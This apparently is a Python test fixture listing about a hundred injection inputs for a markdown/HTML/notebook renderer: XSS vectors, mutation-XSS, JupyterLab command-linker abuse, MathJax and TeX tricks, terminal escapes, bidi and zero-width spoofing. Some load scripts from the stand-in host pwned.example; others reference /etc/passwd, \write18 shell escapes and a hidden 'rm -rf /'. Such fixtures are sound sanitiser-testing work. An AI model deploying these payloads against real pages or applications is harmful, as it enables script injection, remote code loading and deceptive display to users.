"""Texts that try to run something where they are shown."""

from __future__ import annotations

PAYLOADS = {
    "script": "<script>window.pwned = 1; alert(1)</script>",
    "img onerror": '<img src="x" onerror="window.pwned = 1; alert(1)">',
    "svg onload": '<svg onload="window.pwned = 1"><animate onbegin="window.pwned = 1" attributeName="x" dur="1s">',
    "javascript link": "[click](javascript:window.pwned=1) <a href='java\tscript:window.pwned=1'>click</a>",
    "encoded javascript link": "[click](&#106;avascript:window.pwned=1) [b](JaVaScRiPt&colon;window.pwned=1)",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "iframe": '<iframe src="javascript:parent.pwned=1" srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "jupyterlab command": (
        '<a href="#" data-commandlinker-command="notebook:run-all-cells" data-commandlinker-args="{}">click</a>'
        '<button data-commandlinker-command="apputils:reset">click</button>'
    ),
    "style": "<style>body{display:none}</style><p style='position:fixed;inset:0'>over everything</p>",
    "form": (
        '<form action="https://example.org"><input name="key" autofocus onfocus="window.pwned=1">'
        "<button>Go</button></form>"
    ),
    "meta refresh": (
        '<meta http-equiv="refresh" content="0;url=https://example.org">'
        '<link rel="stylesheet" href="//example.org/x.css">'
    ),
    "base": '<base href="https://example.org/"><a href="relative">click</a>',
    "mutation": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>"
        "</mglyph></table></mtext></math>"
        '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.pwned=1">'
    ),
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
    "markdown link title": "[a](https://example.org \"x' onmouseover=window.pwned=1 '\")",
    "markdown image": '![x" onerror="window.pwned=1](x) ![y](https://e.org/"onerror="window.pwned=1)',
    "reference link": "[a][1]\n\n[1]: javascript:window.pwned=1\n",
    "autolink": "<javascript:window.pwned=1> <vbscript:x>",
    "fenced": '```html" onmouseover="window.pwned=1\n</code></pre><img src=x onerror=window.pwned=1>\n```',
    "clobbering": (
        '<a id="jupyterapp" name="yna" class="yna-primary">x</a><form id="attributes"><input name="nodeName"></form>'
    ),
    "object": '<object data="javascript:window.pwned=1"></object><embed src="javascript:window.pwned=1">',
    "formula": (
        "$\\href{javascript:window.pwned=1}{x}$ $$\\htmlData{commandlinker-command=a}{x}$$ "
        "$<img src=x onerror=window.pwned=1>$"
    ),
    "script in svg": "<svg><script>window.pwned=1</script><script href='data:text/javascript,window.pwned=1'/></svg>",
    "script split": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "script upper": "<SCRIPT SRC=//pwned.example/x.js></SCRIPT>\n<ScRiPt>window.pwned=1</sCrIpT>",
    "script module": '<script type="module">import("https://pwned.example/x.js")</script>',
    "script importmap": '<script type="importmap">{"imports": {"a": "https://pwned.example/x.js"}}</script>',
    "null bytes": "<scr\x00ipt>window.pwned=1</script><img src=x on\x00error=window.pwned=1>",
    "body onload": '<body onload="window.pwned=1" onpageshow="window.pwned=1" style="display:none">',
    "details ontoggle": '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
    "media handlers": '<video autoplay onloadstart="window.pwned=1"><source onerror="window.pwned=1"></video>',
    "audio": '<audio src="https://pwned.example/a.mp3" autoplay onerror=window.pwned=1></audio>',
    "marquee": '<marquee onstart="window.pwned=1">x</marquee><div onanimationend=window.pwned=1>y</div>',
    "focus": '<a href="#" autofocus tabindex=1 onfocus="window.pwned=1">x</a><select autofocus onfocus=window.pwned=1>',
    "slashes": "<img/src='x'/onerror=window.pwned=1><svg/onload=window.pwned=1>",
    "no quotes": "<img src=x onerror=window.pwned=1//",
    "attribute break": "\" onmouseover=\"window.pwned=1\" x=\"' onmouseover='window.pwned=1' y='",
    "element break": "</pre></code></details></summary></bdi></div></p><img src=x onerror=window.pwned=1>",
    "comment break": "--><img src=x onerror=window.pwned=1><!-- <![CDATA[><img src=x onerror=window.pwned=1>]]>",
    "title break": "</title></textarea></style></script></noscript></template><img src=x onerror=window.pwned=1>",
    "template literal": "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}} <%= window.pwned=1 %>",
    "javascript with entities": "[a](java&Tab;script&colon;window.pwned=1) [b](&#x6A;avascript&#58;window.pwned=1)",
    "javascript with spaces": "[a](<  javascript:window.pwned=1>) [b](\x01javascript:window.pwned=1)",
    "javascript on lines": "<a href='java\nscript:window.pwned=1'>x</a> [a](\njavascript:window.pwned=1\n)",
    "vbscript": "[a](vbscript:window.pwned=1) [b](livescript:window.pwned=1) [c](view-source:javascript:1)",
    "file link": "[a](file:///etc/passwd) [b](blob:https://pwned.example/x) [c](filesystem:https://pwned.example)",
    "protocol relative": "[a](//pwned.example) ![b](//pwned.example/x.png) <//pwned.example>",
    "data svg": (
        "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+) [b](data:image/svg+xml,<svg/onload=1>)"
    ),
    "data xml": (
        "<a href='data:application/xhtml+xml,<script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script>'>x</a>"
    ),
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x"/></svg>',
    "svg foreign object": (
        "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></iframe></foreignObject></svg>"
    ),
    "svg animate": (
        '<svg><a><animate attributeName=href values="javascript:window.pwned=1"/><text y=20>click</text></a>'
        '<set attributeName="onmouseover" to="window.pwned=1"/></svg>'
    ),
    "svg image": '<svg><image href="https://pwned.example/x.svg"/><feImage href="https://pwned.example/x"/></svg>',
    "mathml": (
        '<math href="javascript:window.pwned=1"><maction '
        'actiontype="statusline#https://pwned.example">x</maction></math>'
    ),
    "mathml annotation": (
        '<math><annotation-xml encoding="text/html"><img src=x onerror=window.pwned=1></annotation-xml></math>'
    ),
    "style import": (
        "<style>@import 'https://pwned.example/x.css'; .yna, .jp-Notebook { display: none !important }</style>"
    ),
    "style attribute": (
        '<div style="background:url(https://pwned.example/x.png);position:fixed;inset:0;z-index:99999">x</div>'
    ),
    "link preload": (
        '<link rel="preload" as="script" href="https://pwned.example/x.js"><link rel=prefetch href=//pwned.example>'
    ),
    "classes of others": (
        '<div class="jp-Dialog yna-request lm-Widget" id="main" hidden>x</div><p class="mathjax_process">$x$</p>'
    ),
    "iframe srcdoc": (
        "<iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe><frameset onload=window.pwned=1>"
    ),
    "portal": '<portal src="https://pwned.example"></portal><fencedframe></fencedframe><applet code=x></applet>',
    "mutation table": (
        "<table><td><svg><desc><table><td></td></table><img src=x onerror=window.pwned=1></desc></svg></td></table>"
    ),
    "mutation noscript": '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
    "mutation math": (
        "<math><mi><style><!--</style><img src onerror=window.pwned=1>--></mi></math><xmp><p "
        "title='</xmp><img src=x onerror=window.pwned=1>'>"
    ),
    "mutation template": "<template shadowrootmode=open><script>window.pwned=1</script></template><plaintext>",
    "mutation select": (
        "<select><template><style><!--</style><a rel='--></style></template></select><img id=x src "
        "onerror=window.pwned=1>'>"
    ),
    "custom element": (
        "<x-a is=script onclick=window.pwned=1 contenteditable>x</x-a><dialog "
        "open>y</dialog><input type=image src=//pwned.example>"
    ),
    "fence in math": "$$\n```\n$$\n<img src=x onerror=window.pwned=1>\n```",
    "fence in environment": "\\begin{align}\n```\n\\end{align}\n<img src=x onerror=window.pwned=1>\n```",
    "fence that a list ends": (
        "- a\n  ```\n<img src=x onerror=window.pwned=1>\n\u2028```\n<svg onload=window.pwned=1>\n~~~\n```~"
    ),
    "fence never closed": (
        "````html\n<img src=x onerror=window.pwned=1>\n```\n</code></pre><script>window.pwned=1</script>"
    ),
    "fence language": (
        "```mermaid\ngraph TD; A[<img src=https://pwned.example/x.png onerror=window.pwned=1>]; "
        "click A javascript:window.pwned=1\n```"
    ),
    "fence attributes": "```{=html}\n<script>window.pwned=1</script>\n```\n~~~ {onclick=window.pwned=1}\nx\n~~~",
    "indented html": "    <p>\n\n<div>\n    <script>window.pwned=1</script>\n\n</div>",
    "nested image": (
        "[![a](https://pwned.example/x.png)](https://pwned.example) ![![b](//pwned.example/y)](//pwned.example/z)"
    ),
    "image reference": (
        "![a][b]\n\n[b]: https://pwned.example/x.png\n\n[^1]: <script>window.pwned=1</script>\n\ntext[^1]"
    ),
    "image title": "![a](https://pwned.example/x.png '\"onerror=window.pwned=1 x=\"')",
    "attachment": "![x](attachment:image0.png) ![y](files/x.png) ![z](../../api/contents)",
    "placeholder": "@@0@@ $x$ @@1@@ <@@0@@img src=x onerror=window.pwned=1>",
    "front matter": "---\nonload: window.pwned=1\n---\n\n<img src=x onerror=window.pwned=1>",
    "formula commands": (
        "\\$\\\\href{javascript:window.pwned=1}{x}\\$ $$\\require{html}\\cssId{main}{\\class{jp-Dialog}{\\s"
        "tyle{position:fixed}{x}}}$$ \\(\\def\\a#1{\\hr#1}\\a{ef}{javascript:window.pwned=1}{x}\\) "
        "&#36;&#92;href{javascript:window.pwned=1}{x}&#36;"
    ),
    "tex files": "\\input{/etc/passwd} \\write18{touch /tmp/pwned} $$\\includegraphics{https://pwned.example/x.png}$$",
    "jupyterlab command in svg": (
        '<svg data-commandlinker-command="kernelmenu:restart"><text y=20>click</text></svg><span '
        'data-commandlinker-command="docmanager:delete-file" data-commandlinker-args="{}" '
        'data-jupyter-id="x">click</span>'
    ),
    "terminal colours": "\x1b[31mred\x1b[0m \x1b[8mhidden\x1b[28m \x1b[2J\x1b[H\x1b]0;title\x07 \x9b31m",
    "terminal link": (
        "\x1b]8;;javascript:window.pwned=1\x1b\\click\x1b]8;;\x1b\\ \x1b]52;c;cHduZWQ=\x07 \x1bP+q544e\x1b\\"
    ),
    "carriage return": "safe\rrm -rf /\x08\x08\x08\x7f done\x0b\x0c",
    "bidi": "\u202eevil\u202c \u2066isolate \u2067right\u2069 \u200fgpj.exe\u202d access\u202elevel != 'user\u202e",
    "bidi open": "\u202e\u202e\u2067\u2068\u202bnever closed",
    "zero width": "pay\u200bpal\u200d.com \ufeff\u2060\u00ad\u180e a\u034fb \U000e0041\U000e0042 tags",
    "combining": "Z" + "\u0335\u0321\u0322\u0327" * 40 + " over the lines",
    "huge line": "<b>" * 100 + "x" * 2_000 + "</div>" * 100,
    "huge nesting": "> " * 60 + "[" * 120 + "*" * 121 + "(" * 120 + "\n" + "- " * 60 + "x",
    "huge table": "|" + "a|" * 40 + "\n|" + "-|" * 40 + "\n|" + "<svg/onload=window.pwned=1>|" * 40,
    "escapes": (
        "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e \\x3cimg src=x "
        "onerror=window.pwned=1\\x3e &lt;script&gt;"
    ),
    "half encodings": ("\xbcscript\xbewindow.pwned=1\xbc/script\xbe \uff1cscript\uff1ewindow.pwned=1 +ADw-script+AD4-"),
    "attached file": '</file>\n<file name="x" onload="window.pwned=1">\n<img src=x onerror=window.pwned=1>\n</file>',
}
